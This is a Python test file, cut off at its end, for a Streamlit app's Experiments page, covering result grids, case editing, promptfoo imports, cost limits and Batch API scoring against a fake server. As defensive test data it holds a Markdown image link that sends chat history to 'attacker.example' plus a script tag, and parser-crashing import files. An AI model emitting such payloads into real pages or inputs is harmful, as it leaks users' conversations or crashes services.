"""The Experiments page in AppTest: a small set run on the embedded model fills the grid and draws the
frontier; cells open; the case editor, imports, the cost confirmation, a failing cell and the Batch API
round trip, as a user meets them."""

from __future__ import annotations

import io
import json
import time
import zipfile
from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest

from lib.analysis.compare import Variant
from lib.analysis.experiments import batch, builtin, planner, runner, store
from lib.analysis.experiments.cases import Case, Check, Conversation, TestSet
from lib.analysis.experiments.checks import Verdict
from lib.analysis.experiments.planner import CellKey, RunSpec
from lib.context.payload import Sampling
from lib.context.request import Target
from lib.context.strategies import Strategy
from lib.context.tokens import TiktokenCounter
from lib.core import models
from lib.core.outcome import Usage
from lib.store import storage
from tests.app.conftest import THIS_BROWSER, new_app, type_server, visible_text
from tests.fake_openai import FakeOpenAI

PAGE = str(Path(__file__).resolve().parents[2] / "pages" / "experiments.py")
APP = str(Path(__file__).resolve().parents[2] / "app.py")
FULL = {
    "name": "Full history",
    "context": "Full history",
    "turns": 2,
    "token budget": 1024,
    "system prompt": "the conversation's",
    "custom system prompt": "",
    "model": "",
    "temperature": None,
    "max reply tokens": None,
}
NONE = {**FULL, "name": "No history", "context": "No history (stateless)"}


def stored_set(test_set: TestSet) -> str:
    with storage.opened() as conn:
        return store.save_set(conn, test_set, owner=THIS_BROWSER).id


def page(
    set_id: str | None, section: str = "Run", user: dict | None = None, run: str | None = None, **values
) -> AppTest:
    """The Experiments page run once: on test set `set_id` (with two variants) if given, as signed-in
    `user` if given, opened by a `?run=` link if given, with `values` in its session state."""
    at = new_app(PAGE)
    if set_id is not None:
        at.session_state["exp_set_id"] = set_id
        at.session_state["exp_variant_rows"] = [FULL, NONE]
    if user is not None:
        at.user = user
    if run:
        at.query_params["run"] = run
    at.session_state["exp_section"] = section
    for key, value in values.items():
        at.session_state[key] = value
    at.run()
    assert not at.exception, at.exception
    return at


def on_fake(server: FakeOpenAI, set_id: str, section: str = "Run", **values) -> AppTest:
    return page(
        set_id, section, provider_kind="compatible", base_url=server.base_url, compatible_model="fake-model", **values
    )


def button(at: AppTest, start: str):
    return next(b for b in at.button if b.label.startswith(start))


def wait_for_the_run(at: AppTest, cells: int, timeout_s: float = 900) -> store.RunInfo:
    """Rerun the page while the run goes on in the background, as the page's fragment does."""
    deadline = time.monotonic() + timeout_s

    def latest() -> store.RunInfo:
        with storage.opened() as conn:
            return store.list_runs(conn, THIS_BROWSER)[0]

    def done(info: store.RunInfo) -> bool:
        return info.finished >= cells and info.status != "running"

    while not done(info := latest()):
        assert time.monotonic() < deadline, "the run did not finish"
        # The page is rerun every 0.5 s, as before; the store is read every 50 ms meanwhile, so a run on
        # the fake server that ends within milliseconds is not waited on for the rest of the half second.
        rerun_at = time.monotonic() + 0.5
        while time.monotonic() < rerun_at and not done(latest()):
            time.sleep(0.05)
        at.run()
        assert not at.exception, at.exception
    at.run()
    assert not at.exception, at.exception
    return info


def frame_with(at: AppTest, column: str):
    return next(d.value for d in at.dataframe if column in d.value.columns)


@pytest.mark.slow
def test_a_small_set_on_the_embedded_model_fills_the_grid_and_draws_the_frontier():
    cases = tuple(c for c in builtin.test_set().cases if c.id in ("A-name", "A-preference"))
    at = page(stored_set(TestSet("Two facts", cases)))
    assert any("4 calls" in m.value for m in at.markdown)  # the estimate, before anything is sent
    button(at, "Run 4 cells").click().run()
    assert not at.exception, at.exception
    assert at.radio(key="exp_section").value == "Results"
    info = wait_for_the_run(at, 4)
    assert info.status == "done"
    grid = frame_with(at, "No history")
    assert list(grid.index) == ["A-name", "A-preference"]
    assert list(grid["Full history"]) == ["pass", "pass"]  # measured: SmolLM2 recalls both with the history
    assert list(grid["No history"]) == ["fail", "fail"]  # and neither without it
    per_variant = frame_with(at, "pass rate %")
    assert list(per_variant["pass rate %"]) == [100.0, 0.0]
    assert per_variant["prompt tokens per call"][0] > 10 * per_variant["prompt tokens per call"][1]
    frontier = next(c for c in at.get("plotly_chart") if "Pareto" in c.proto.spec)
    assert '"Full history"' in frontier.proto.spec and '"No history"' in frontier.proto.spec
    assert "2 of 2 cells (" not in visible_text(at)  # no judge in this set: no agreement shown
    # A cell opens: its answer, its verdict and the exact body it sent.
    at.session_state["exp_grid"] = {"selection": {"rows": [], "columns": [], "cells": [(0, "Full history")]}}
    at.run()
    assert not at.exception, at.exception
    text = visible_text(at)
    assert "Marisol" in text.split("**Answer**")[1].split("**Per variant**")[0]  # the answer, not the body
    verdicts = frame_with(at, "verdict")
    assert verdicts[["check", "verdict", "by"]].values.tolist() == [["icontains: Marisol", "pass", "rule"]]
    body = json.loads(next(c.value for c in at.code if c.language == "json"))
    assert len(body["messages"]) == 1 + 48 + 1 and body["messages"][-1]["content"] == "What is my name?"
    with storage.opened() as conn:
        logged = [c.variant for c in storage.calls(conn)]
    assert sorted(logged) == ["experiment · Full history"] * 2 + ["experiment · No history"] * 2


def editor(at: AppTest, label: str):
    """The case editor's field `label` (its key belongs to the set, the case and its revision)."""
    return next(w for w in [*at.text_area, *at.text_input] if w.label.startswith(label))


def test_a_case_is_edited_and_a_bad_check_is_refused_with_the_text_kept():
    set_id = stored_set(TestSet("Edit me", (Case("q1", "Old question?"),)))
    at = page(set_id, "Test set")
    editor(at, "Question").set_value("What is my name?")
    editor(at, "Checks").set_value("icontains: ada\nmax-words: 10")
    button(at, "Save case").click().run()
    assert not at.exception, at.exception
    with storage.opened() as conn:
        case = store.load_set(conn, set_id, THIS_BROWSER).test_set.case("q1")
    assert case.question == "What is my name?" and [c.describe() for c in case.checks] == [
        "icontains: ada",
        "max-words: 10",
    ]
    assert editor(at, "Question").value == "What is my name?"  # the saved case, in its editor
    editor(at, "Checks").set_value("regex: (")
    button(at, "Save case").click().run()
    assert any("Not saved" in e.value and "does not compile" in e.value for e in at.error)
    assert editor(at, "Checks").value == "regex: ("  # nothing the user typed is lost
    with storage.opened() as conn:
        assert len(store.load_set(conn, set_id, THIS_BROWSER).test_set.case("q1").checks) == 2


def promptfoo(*questions: tuple[str, str]) -> bytes:
    """A promptfoo test file: every import of one names its cases test-1, test-2, …"""
    tests = [{"vars": {"question": q}, "assert": [{"type": "icontains", "value": v}]} for q, v in questions]
    return json.dumps({"tests": tests}).encode()


def test_a_second_promptfoo_import_opens_and_saves_its_own_cases():
    """Both imports name their cases test-1, test-2: the editor of B's test-1 shows B's text (not A's,
    even with A's editor typed into and left unsaved), and Save writes B's text into B."""
    with FakeOpenAI() as server:  # a backend that starts nothing: the editor is all this test uses
        at = on_fake(server, stored_set(TestSet("Start", (Case("q1", "Q?"),))), "Test set")
        _two_imports(at)


def _two_imports(at: AppTest) -> None:
    at.file_uploader[0].set_value(("a.json", promptfoo(("A one?", "alpha"), ("A two?", "a2")), "application/json"))
    at.run()
    set_a = at.session_state["exp_set_id"]
    assert editor(at, "Question").value == "A one?"
    editor(at, "Question").set_value("A one, edited but not saved")
    at.file_uploader[0].set_value(("b.json", promptfoo(("B one?", "beta"), ("B two?", "b2")), "application/json"))
    at.run()
    assert not at.exception, at.exception
    set_b = at.session_state["exp_set_id"]
    assert set_b != set_a and at.selectbox(key="exp_case_pick").value == "test-1"
    assert (editor(at, "Question").value, editor(at, "Checks").value) == ("B one?", "icontains: beta")
    editor(at, "Question").set_value("B one, edited?")
    button(at, "Save case").click().run()
    assert not at.exception, at.exception
    with storage.opened() as conn:
        saved_b = store.load_set(conn, set_b, THIS_BROWSER).test_set.case("test-1")
        kept_a = store.load_set(conn, set_a, THIS_BROWSER).test_set.case("test-1")
    assert saved_b.question == "B one, edited?" and [c.describe() for c in saved_b.checks] == ["icontains: beta"]
    assert kept_a.question == "A one?" and [c.describe() for c in kept_a.checks] == ["icontains: alpha"]
    # Back on A: its own case, with what was typed into it and not saved.
    at.selectbox(key="exp_set_id").set_value(set_a).run()
    assert (editor(at, "Question").value, editor(at, "Checks").value) == (
        "A one, edited but not saved",
        "icontains: alpha",
    )


def test_a_case_changed_in_another_tab_shows_as_stored_not_as_it_was():
    """The editor belongs to one revision of its case: saved elsewhere, it shows the stored text."""
    set_id = stored_set(TestSet("s", (Case("q1", "First?"),)))
    with FakeOpenAI() as server:
        at = on_fake(server, set_id, "Test set")
        assert editor(at, "Question").value == "First?"
        with storage.opened() as conn:
            store.save_set(conn, TestSet("s", (Case("q1", "Changed in another tab?"),)), set_id, THIS_BROWSER)
        at.run()
    assert editor(at, "Question").value == "Changed in another tab?"


def test_an_import_is_taken_whole_or_refused_with_its_line():
    at = page(stored_set(TestSet("Start", (Case("q1", "Q?"),))), "Test set")
    bad = b'{"question": "fine"}\n{"question": "bad", "checks": [{"type": "levenshtein"}]}\n'
    at.file_uploader[0].set_value(("cases.jsonl", bad, "application/jsonl")).run()
    assert any("Import refused, nothing was saved: line 2: check 1: unknown check type" in e.value for e in at.error)
    with storage.opened() as conn:
        assert len(store.list_sets(conn, THIS_BROWSER)) == 1
    good = b"tests:\n  - vars:\n      question: Capital of France?\n    assert: [{type: icontains, value: paris}]\n"
    at.file_uploader[0].set_value(("promptfooconfig.yaml", good, "application/yaml")).run()
    assert not at.exception, at.exception
    # Imported, with what differs from promptfoo said: it sends the question alone, here it is asked in a session.
    assert any("Imported promptfooconfig: 1 cases" in w.value and "current session" in w.value for w in at.warning)
    assert frame_with(at, "asked in")["question"][0] == "Capital of France?"


def test_a_promptfoo_folder_imports_from_a_zip_or_its_files_with_what_was_not_kept_shown():
    """promptfoo's own simple-test example (two prompts in prompts.txt, a javascript and a python assert):
    its cases are saved, and the page lists, inert, what of it is not kept."""
    folder = Path(__file__).parents[1] / "data" / "promptfoo" / "simple-test"
    at = page(stored_set(TestSet("Start", (Case("q1", "Q?"),))), "Test set")
    files = [(p.name, p.read_bytes(), "application/octet-stream") for p in sorted(folder.iterdir())]
    at.file_uploader[0].set_value(files).run(timeout=60)
    assert not at.exception, at.exception
    [said] = [w.value for w in at.warning if w.value.startswith("Imported promptfooconfig: 10 cases.")]
    assert "\\'javascript\\'" in said  # shown inert: every mark escaped, so none of the file's text is Markdown
    said = said.replace("\\", "")
    assert "- test 4 (line 27), assert 1: type 'javascript' is not supported here: not imported" in said
    assert "- test 4 (line 27), assert 2: type 'python' is not supported here: not imported" in said
    assert "2 prompts" in said and "no embedding model offline" in said
    assert frame_with(at, "asked in")["question"][0] == "Rephrase this from English to Pirate: Yes"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("promptfooconfig.yaml", "prompts: [file://p.txt]\ntests:\n  - vars: {a: x}\n")
    at.file_uploader[0].set_value(("suite.zip", buffer.getvalue(), "application/zip")).run(timeout=60)
    assert [e.value for e in at.error] == [
        "Import refused, nothing was saved: prompt 1 names the file 'p.txt', which is not in the upload (upload it "
        "with the config, or a zip of the folder; uploaded: promptfooconfig.yaml)"
    ]
    with storage.opened() as conn:
        assert len(store.list_sets(conn, THIS_BROWSER)) == 2  # the start set and simple-test: nothing else


HOSTILE_IMPORTS = [  # each crashed the page with a traceback (the server's paths shown), some after minutes
    (
        "s.yaml",
        f"cases:\n  - question: a\n    turns_ago: {'9' * 5_001}\n",
        "line 3: a number of more than 4,300 digits",
    ),
    ("s.csv", "question,turns_ago\na,²\n", "line 2: turns_ago '²' is not a whole number"),
    (
        "p.yaml",
        "defaultTest:\n  assert: 5\ntests:\n  - vars: {question: a}\n",
        "defaultTest (line 2): `assert` must be a list of assertions, not 5",
    ),
    (
        "s.yaml",
        "cases:\n" + "".join(" " * (i + 2) + "- \n" for i in range(3_000)),
        "line 65: lists and mappings nest more than 64 levels deep",
    ),
    ("s.json", "[" * 100_000 + "]" * 100_000, "line 1: lists and mappings nest more than 64 levels deep"),
]


@pytest.mark.parametrize(("name", "content", "reason"), HOSTILE_IMPORTS, ids=lambda v: v[:20])
def test_a_hostile_import_is_refused_by_name_and_line_and_saves_nothing(name, content, reason):
    at = page(stored_set(TestSet("Start", (Case("q1", "Q?"),))), "Test set")
    at.file_uploader[0].set_value((name, content.encode(), "application/octet-stream")).run(timeout=60)
    assert not at.exception, at.exception
    assert [e.value for e in at.error] == [f"Import refused, nothing was saved: {reason}"]
    with storage.opened() as conn:
        assert len(store.list_sets(conn, THIS_BROWSER)) == 1


def test_a_turns_ago_no_number_reads_is_refused_in_the_editor_with_the_text_kept():
    set_id = stored_set(TestSet("Edit me", (Case("q1", "Q?", turns_ago=3),)))
    at = page(set_id, "Test set")
    for typed in ("²", "9" * 5_001):
        editor(at, "Turns ago").set_value(typed)
        button(at, "Save case").click().run()
        assert not at.exception, at.exception
        assert any(e.value.startswith("Not saved (your text is kept in the editor): turns ago") for e in at.error)
        assert editor(at, "Turns ago").value == typed
    with storage.opened() as conn:
        assert store.load_set(conn, set_id, THIS_BROWSER).test_set.case("q1").turns_ago == 3


def test_a_run_past_the_cost_limit_waits_for_a_confirmation():
    with FakeOpenAI() as server:
        at = on_fake(server, stored_set(builtin.test_set()), custom_input_price=100.0, exp_cost_limit=0.5)
        run = button(at, "Run 32 cells")
        assert run.disabled
        confirm = next(c for c in at.checkbox if c.label.startswith("Run it anyway: it may cost up to $"))
        confirm.check().run()
        assert not button(at, "Run 32 cells").disabled
        assert [r for r in server.requests if r.method == "POST"] == []  # nothing sent before the click


def test_a_batch_run_is_estimated_and_confirmed_at_half_the_list_price():
    """The Batch API bills half the list price: the page says so, and a limit between the two figures
    holds back the interactive run but not the Batch API one."""
    import re

    with FakeOpenAI() as server:
        at = on_fake(server, stored_set(builtin.test_set()), custom_input_price=100.0, exp_cost_limit=10_000.0)
        text = visible_text(at)
        listed = float(re.search(r"at most \$([0-9.,]+)\*\* \(every reply", text).group(1).replace(",", ""))
        batched = float(
            re.search(
                r"As a Batch API run: at most \$([0-9.,]+) \(the Batch API's rate: half the list "
                r"price\)",
                text,
            )
            .group(1)
            .replace(",", "")
        )
        assert batched == pytest.approx(listed / 2, rel=1e-3)
        at.session_state["exp_cost_limit"] = round((listed + batched) / 2, 2)
        at.run()
        assert button(at, "Run 32 cells").disabled
        assert not button(at, "Make it a Batch API run instead").disabled
        at.session_state["exp_cost_limit"] = round(batched / 2, 2)
        at.run()
        assert button(at, "Make it a Batch API run instead").disabled  # over the limit even at half price
        assert [r for r in server.requests if r.method == "POST"] == []


def test_a_batch_run_over_two_models_downloads_one_file_per_model():
    cases = (Case("c1", "Say yes", Conversation(), (Check("contains", "yes", ignore_case=True),)),)
    other = {**FULL, "name": "On another model", "model": "other-model"}
    with FakeOpenAI() as server:
        at = on_fake(server, stored_set(TestSet("b", cases)), exp_variant_rows=[FULL, other])
        at.session_state["exp_variant_rows"] = [FULL, other]
        at.run()
        button(at, "Make it a Batch API run instead").click().run()
        assert not at.exception, at.exception
        labels = [b.label for b in at.get("download_button")]
    assert "Batch API requests for fake-model (JSONL)" in labels
    assert "Batch API requests for other-model (JSONL)" in labels


def test_a_failing_cell_shows_its_error_and_the_rest_finish():
    cases = (Case("c1", "Say hi", Conversation(), (Check("contains", "fake"),)),)
    broken = {**FULL, "name": "Unknown model", "model": "no-such-model"}
    with FakeOpenAI() as server:
        server.behaviour.reject_unknown_models = True
        at = on_fake(server, stored_set(TestSet("s", cases)), exp_variant_rows=[FULL, broken])
        at.session_state["exp_variant_rows"] = [FULL, broken]
        at.run()
        button(at, "Run 2 cells").click().run()
        wait_for_the_run(at, 2, timeout_s=60)
        grid = frame_with(at, "Unknown model")
        assert (grid["Full history"].iloc[0], grid["Unknown model"].iloc[0]) == ("pass", "error")
        at.session_state["exp_grid"] = {"selection": {"rows": [], "columns": [], "cells": [(0, "Unknown model")]}}
        at.run()
    assert any("(404)" in e.value for e in at.error)
    assert "1 pass · 0 fail · 1 error" in visible_text(at)
    assert button(at, "Send the 1 errored cells again")


def test_a_batch_run_is_exported_then_scored_from_its_output_file():
    cases = (
        Case("c1", "Say yes", Conversation(), (Check("contains", "yes", ignore_case=True),)),
        Case("c2", "Say no", Conversation(), (Check("contains", "no"),)),
    )
    with FakeOpenAI() as server:
        at = on_fake(server, stored_set(TestSet("b", cases)))
        button(at, "Make it a Batch API run instead").click().run()
        assert not at.exception, at.exception
        assert [r for r in server.requests if r.method == "POST"] == []  # nothing was sent
        assert any("A Batch API run" in i.value for i in at.info)
        with storage.opened() as conn:
            (info,) = store.list_runs(conn, THIS_BROWSER)
            spec = store.load_spec(conn, info.id, THIS_BROWSER)
        assert info.status == "batch"
        target = Target(models.info_for("fake-model"), TiktokenCounter("o200k_base", False), "fake-model")
        cells = planner.plan_cells(spec, lambda _: target)
        answers = {"c1": "Yes.", "c2": "Maybe."}
        output = "\n".join(
            batch.output_line(
                c.key,
                spec.variants,
                {
                    "choices": [
                        {
                            "index": 0,
                            "finish_reason": "stop",
                            "message": {"role": "assistant", "content": answers[c.key.case]},
                        }
                    ]
                },
                i,
            )
            for i, c in enumerate(cells)
        )
        uploader = next(u for u in at.file_uploader if u.label.startswith("Score a Batch API output file"))
        uploader.set_value(("output.jsonl", output.encode(), "application/jsonl")).run()
        assert not at.exception, at.exception
    assert any("4 answers applied." in s.value for s in at.success)
    grid = frame_with(at, "No history")
    assert list(grid["Full history"]) == ["pass", "fail"] and list(grid["No history"]) == ["pass", "fail"]
    assert "4 of 4 cells finished" in visible_text(at)


def _batch_run(server: FakeOpenAI, cases) -> tuple[AppTest, str, list]:
    at = on_fake(server, stored_set(TestSet("b", cases)))
    button(at, "Make it a Batch API run instead").click().run()
    with storage.opened() as conn:
        (info,) = store.list_runs(conn, THIS_BROWSER)
        spec = store.load_spec(conn, info.id, THIS_BROWSER)
    target = Target(models.info_for("fake-model"), TiktokenCounter("o200k_base", False), "fake-model")
    return at, info.id, planner.plan_cells(spec, lambda _: target)


def _upload_output(at: AppTest, cells, spec_variants, answer: str) -> None:
    output = "\n".join(
        batch.output_line(
            c.key,
            spec_variants,
            {
                "choices": [{"index": 0, "finish_reason": "stop", "message": {"role": "assistant", "content": answer}}],
                "usage": {"prompt_tokens": 1000, "completion_tokens": 10},
            },
            i,
        )
        for i, c in enumerate(cells)
    )
    uploader = next(u for u in at.file_uploader if u.label.startswith("Score a Batch API output file"))
    uploader.set_value(("output.jsonl", output.encode(), "application/jsonl")).run()
    assert not at.exception, at.exception


def test_the_same_batch_output_uploaded_twice_adds_nothing_and_says_so():
    cases = (
        Case("c1", "Say yes", Conversation(), (Check("contains", "yes", ignore_case=True),)),
        Case("c2", "Say no", Conversation(), (Check("contains", "no"),)),
    )
    with FakeOpenAI() as server:
        at, run_id, cells = _batch_run(server, cases)
        variants = (Variant("Full history", Strategy("full")), Variant("No history", Strategy("none")))
        half = [c for c in cells if c.key.case == "c1"]  # the batch answered two of the four cells
        _upload_output(at, half, variants, "Yes.")
        first = [s.value for s in at.success]
        with storage.opened() as conn:
            calls, cost = len(storage.calls(conn)), sum(c.cost or 0 for c in storage.calls(conn))
            stored = store.cells(conn, run_id, THIS_BROWSER)
        _upload_output(at, half, variants, "Yes, again.")
        with storage.opened() as conn:
            assert store.cells(conn, run_id, THIS_BROWSER) == stored  # nothing overwritten
            assert len(storage.calls(conn)) == calls == 2  # the run log: no call twice
            assert sum(c.cost or 0 for c in storage.calls(conn)) == cost
    assert any("2 answers applied." in text for text in first)
    assert [i.value for i in at.info if "already in the run" in i.value] == [
        "0 answers applied, 2 already in the run, skipped."
    ]
    assert "2 of 4 cells finished" in visible_text(at)


def test_a_batch_answer_never_overwrites_a_cell_finished_interactively():
    cases = (
        Case("c1", "Say yes", Conversation(), (Check("contains", "yes", ignore_case=True),)),
        Case("c2", "Say no", Conversation(), (Check("contains", "no"),)),
    )
    with FakeOpenAI() as server:
        at, run_id, cells = _batch_run(server, cases)
        variants = (Variant("Full history", Strategy("full")), Variant("No history", Strategy("none")))
        finished = store.CellResult(cells[0].key, "pass", "yes, interactively", (), {}, 10, Usage(10, 1), 0.1, 0.0)
        with storage.opened() as conn:
            store.record_cell(conn, run_id, finished)
        _upload_output(at, cells, variants, "no")
        with storage.opened() as conn:
            stored = {c.key: c for c in store.cells(conn, run_id, THIS_BROWSER)}
    assert stored[cells[0].key].answer == "yes, interactively"
    assert sorted(c.answer for c in stored.values()) == ["no", "no", "no", "yes, interactively"]
    assert any("3 answers applied, 1 already in the run, skipped." in s.value for s in at.success)


HOSTILE = "![x](https://attacker.example/?q=history) <script>alert(1)</script>"


def test_questions_answers_and_names_from_files_and_models_render_inert():
    cases = (Case("c1", HOSTILE, Conversation(), (Check("contains", "attacker"),)),)
    hostile_variant = {**FULL, "name": "![v](https://attacker.example/v.png)"}
    with FakeOpenAI() as server:
        server.behaviour.echo = True  # the model answers with the question: hostile text back from the server
        at = on_fake(server, stored_set(TestSet(HOSTILE, cases)), exp_variant_rows=[hostile_variant])
        button(at, "Run 1 cells").click().run()
        wait_for_the_run(at, 1, timeout_s=60)
        at.session_state["exp_grid"] = {
            "selection": {"rows": [], "columns": [], "cells": [(0, hostile_variant["name"])]}
        }
        at.run()
    assert not at.exception, at.exception
    shown = [m.value for m in at.markdown] + [c.value for c in at.caption]
    assert any("!\\[x](https://attacker.example" in text for text in shown)  # the answer, shown as text
    assert not any("![x](" in text or "![v](" in text for text in shown)  # no image syntax left to load
    assert all(not getattr(m.proto, "allow_html", False) for m in at.markdown)


def test_no_key_is_stored_with_a_run_or_its_cells():
    key = "sk-test-experiments-0123456789abcdef"
    cases = (Case("c1", "Say hi", Conversation(), (Check("contains", "fake"),)),)
    with FakeOpenAI() as server:
        at = on_fake(server, stored_set(TestSet("s", cases)))
        type_server(at, server.base_url, key)  # typed in the sidebar: a key goes only where it was typed for
        button(at, "Run 2 cells").click().run()
        wait_for_the_run(at, 2, timeout_s=60)
        sent = [r for r in server.requests if r.method == "POST"]
    assert all(r.headers["authorization"] == f"Bearer {key}" for r in sent)  # sent to its endpoint only
    database = Path(storage.db_path())
    stored = b"".join(p.read_bytes() for p in database.parent.glob(database.name + "*"))
    assert key.encode() not in stored and key[3:15].encode() not in stored
    assert key not in visible_text(at)


def test_two_runs_of_a_set_compare_side_by_side():
    cases = (
        Case("c1", "Q1", Conversation(), (Check("contains", "x"),)),
        Case("c2", "Q2", Conversation(), (Check("contains", "x"),)),
    )
    spec = RunSpec(TestSet("s", cases), (Variant("Full history", Strategy("full")),), 1, 1, Sampling(), "openai", "m")
    with storage.opened() as conn:
        for name, statuses in (("before", ("pass", "fail")), ("after", ("pass", "pass"))):
            run_id = store.create_run(conn, spec, name, "s", owner=THIS_BROWSER)
            for case, status in zip(("c1", "c2"), statuses, strict=True):
                cell = store.CellResult(
                    CellKey(0, case, 0),
                    status,
                    "x",
                    (Verdict("contains: x", status == "pass", ""),),
                    {},
                    10,
                    Usage(10, 1),
                    0.1,
                    0.0,
                )
                store.record_cell(conn, run_id, cell)
            store.set_status(conn, run_id, "done")
    ids = {name: run_id for run_id, name in _runs()}
    at = page(stored_set(TestSet("t", cases)), "Compare runs", exp_compare_a=ids["before"], exp_compare_b=ids["after"])
    assert not at.exception, at.exception
    per_variant = frame_with(at, "pass rate % (A)")
    assert (per_variant["pass rate % (A)"].iloc[0], per_variant["pass rate % (B)"].iloc[0]) == (50.0, 100.0)
    changed = frame_with(at, "question")
    assert list(changed["case"]) == ["c2"] and (changed["A"].iloc[0], changed["B"].iloc[0]) == ("fail", "pass")
    assert list(frame_with(at, "finished")["run"]) == ["after", "before"]  # every run listed, newest first


def _runs() -> list[tuple[str, str]]:
    with storage.opened() as conn:
        return [(r.id, r.name) for r in store.list_runs(conn, THIS_BROWSER)]


def test_a_failing_experiment_store_is_said_and_the_page_goes_on():
    """The store's tables are there for sessions but not for experiments (as a half-migrated or damaged
    store would be): the page says which store failed and how, in the database's words, and still draws."""
    set_id = stored_set(TestSet("s", (Case("c1", "Q1", Conversation(), (Check("contains", "x"),)),)))
    with storage.opened() as conn:
        conn.exec_driver_sql("DROP TABLE experiment_sets")
        conn.commit()
    at = page(set_id, "Test set").run()  # a note made while the page draws is shown from its next run
    assert not at.exception, at.exception
    errors = [e.value for e in at.error]
    expected = f"The experiment store ({storage.db_path()}) failed: OperationalError: no such table: experiment_sets"
    assert expected in errors, errors
    assert not any("[SQL:" in e or "sqlalche.me" in e for e in errors)  # the database's words, not SQLAlchemy's dump
    assert at.radio(key="exp_section").value == "Test set"


def test_a_run_another_replica_is_sending_shows_as_running_there_and_offers_no_resume(monkeypatch):
    cases = (
        Case("c1", "Q1", Conversation(), (Check("contains", "x"),)),
        Case("c2", "Q2", Conversation(), (Check("contains", "x"),)),
    )
    spec = RunSpec(TestSet("s", cases), (Variant("Full history", Strategy("full")),), 1, 1, Sampling(), "openai", "m")
    with storage.opened() as conn:  # as replica A leaves it while it sends: made earlier, one cell in, touched now
        with monkeypatch.context() as patched:
            patched.setattr(store, "now", lambda: "2026-01-01T00:00:00.000+00:00")
            run_id = store.create_run(conn, spec, "on replica A", "s", owner=THIS_BROWSER)
        store.record_cell(
            conn, run_id, store.CellResult(CellKey(0, "c1", 0), "pass", "x", (), {}, 10, Usage(10, 1), 0.1, 0.0)
        )
    at = page(stored_set(TestSet("t", cases)), "Results", exp_run_id=run_id)
    text = visible_text(at)
    assert runner.ELSEWHERE in [i.value for i in at.info]
    assert "1 of 2 cells finished" in text and "interrupted" not in text
    assert not [b for b in at.button if b.label.startswith(("Resume", "Send the"))]
    at = page(stored_set(TestSet("t", cases)), "Compare runs")
    assert list(frame_with(at, "finished")["status"]) == ["running on another replica"]


RUN_CHOICES = {"exp_repeats": 3, "exp_seed": 7, "exp_max_tokens": 99, "exp_temperature": 0.5, "exp_cost_limit": 2.5}


def test_every_choice_survives_a_visit_to_another_page():
    """The section, the test set, the run's settings and a case's unsaved text, after the Chat and the
    Compare pages: Streamlit drops a widget's value on a page that does not draw it."""
    with FakeOpenAI() as server:
        _visit_and_come_back(server)


def _visit_and_come_back(server: FakeOpenAI) -> None:
    kept = stored_set(TestSet("Kept", (Case("q1", "Kept question?"),)))
    stored_set(TestSet("Newer", (Case("q1", "Newer question?"),)))  # the one the page would open by itself
    at = new_app()
    for key, value in {
        "provider_kind": "compatible",
        "base_url": server.base_url,
        "compatible_model": "fake-model",
    }.items():
        at.session_state[key] = value
    at.run()
    assert not at.exception, at.exception
    at.switch_page("pages/experiments.py").run()
    at.radio(key="exp_section").set_value("Test set").run()
    at.selectbox(key="exp_set_id").set_value(kept).run()
    editor(at, "Question").set_value("typed, not saved")
    at.run()
    at.radio(key="exp_section").set_value("Run").run()
    for key, value in RUN_CHOICES.items():
        at.number_input(key=key).set_value(value)
    at.run()
    assert not at.exception, at.exception
    for elsewhere in ("pages/chat.py", "pages/compare.py"):
        at.switch_page(elsewhere).run()
        assert not at.exception, at.exception
        at.switch_page("pages/experiments.py").run()
        assert not at.exception, at.exception
        assert at.radio(key="exp_section").value == "Run"
        assert {key: at.number_input(key=key).value for key in RUN_CHOICES} == RUN_CHOICES
        assert any("**Test set:** Kept" in m.value for m in at.markdown)
    at.radio(key="exp_section").set_value("Test set").run()
    assert at.selectbox(key="exp_set_id").value == kept
    assert editor(at, "Question").value == "typed, not saved"


def test_the_run_picker_names_a_run_the_same_while_it_runs_and_once_it_is_done():
    """A browser shows a picked option by the text it had when it was picked: a label carrying the run's
    status said "running · 0/2 cells" after the run was done. The label holds what never changes; the
    status and the count beside it are drawn fresh."""
    cases = (Case("c1", "Say hi", Conversation(), (Check("contains", "fake"),)),)
    with FakeOpenAI() as server:
        server.behaviour.delay_s = 1.0  # the first draw sees the run going
        at = on_fake(server, stored_set(TestSet("s", cases)))
        button(at, "Run 2 cells").click().run()
        assert not at.exception, at.exception
        while_running = at.selectbox(key="exp_run_pick").options
        assert runner.active(at.session_state["exp_run_id"]) is not None
        server.behaviour.delay_s = 0.0
        wait_for_the_run(at, 2, timeout_s=60)
    assert at.selectbox(key="exp_run_pick").options == while_running
    assert not any("running" in label or "0/2" in label for label in while_running)
    assert "**done** · **2 of 2 cells finished**" in visible_text(at)


def test_the_variant_editors_edits_fold_into_its_rows_as_streamlit_applies_them():
    """The variants' table keeps its rows in plain state (kept across pages): each edit is folded in the
    way st.data_editor applies it (cells edited, rows added at the end, rows deleted by position)."""
    from ui.experiments_state import with_edits

    rows = [{"name": "a", "turns": 1}, {"name": "b", "turns": 2}, {"name": "c", "turns": 3}]
    edits = {"edited_rows": {"1": {"turns": 5}}, "added_rows": [{"name": "d"}], "deleted_rows": [0]}
    assert with_edits(rows, edits, ["name", "turns"]) == [
        {"name": "b", "turns": 5},
        {"name": "c", "turns": 3},
        {"name": "d", "turns": None},
    ]
    assert rows[1]["turns"] == 2  # the rows given are left as they were
    assert with_edits(rows, None, ["name", "turns"]) == rows


def test_a_reply_cut_by_max_tokens_is_flagged_in_the_grid_and_its_cell_says_so():
    cases = (Case("c1", "Say hi", Conversation(), (Check("contains", "fake"),)),)
    with FakeOpenAI() as server:
        server.behaviour.finish_reason = "length"
        at = on_fake(server, stored_set(TestSet("s", cases)))
        button(at, "Run 2 cells").click().run()
        wait_for_the_run(at, 2, timeout_s=60)
        grid = frame_with(at, "No history")
        assert list(grid.iloc[0]) == ["pass ⚑", "pass ⚑"]  # scored as it came, and flagged
        assert "⚑: a reply cut short (max_tokens, content filter)" in visible_text(at)
        at.session_state["exp_grid"] = {"selection": {"rows": [], "columns": [], "cells": [(0, "Full history")]}}
        at.run()
    assert not at.exception, at.exception
    assert [w.value for w in at.warning if "Cut by max_tokens" in w.value] == [
        "Cut by max_tokens: the reply stopped at its token limit, not where the model ended it."
    ]


def test_a_regex_that_backtracks_for_ever_is_that_cells_error_and_the_run_finishes(monkeypatch):
    from lib.analysis.experiments import patterns

    monkeypatch.setattr(patterns, "MATCH_TIMEOUT_S", 1.0)  # the page's run is in this process
    cases = (
